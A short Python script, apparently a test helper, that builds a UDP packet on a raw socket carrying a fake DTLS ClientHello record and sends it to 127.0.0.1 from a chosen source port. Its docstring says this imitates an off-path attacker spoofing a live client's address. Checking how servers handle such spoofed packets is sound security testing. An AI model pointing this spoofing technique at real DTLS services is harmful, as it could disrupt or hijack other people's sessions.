#!/usr/bin/python3
"""Send one DTLS record that looks like a new ClientHello (content type 22,
epoch 0) to 127.0.0.1:DPORT with the *source port* SPORT, as an off-path
attacker who spoofs a live client's address would. Needs root (raw socket).

  spoof_hello.py SPORT DPORT
"""
import socket
import struct
import sys

sport, dport = int(sys.argv[1]), int(sys.argv[2])
# A ClientHello fragment header: type 1, length 0, seq 0, offset 0, len 0.
body = bytes([1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0])
record = struct.pack("!BHH6sH", 22, 0xFEFD, 0, b"\0" * 6, len(body)) + body
udp = struct.pack("!HHHH", sport, dport, 8 + len(record), 0) + record  # checksum 0: none (IPv4)
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
s.sendto(udp, ("127.0.0.1", 0))
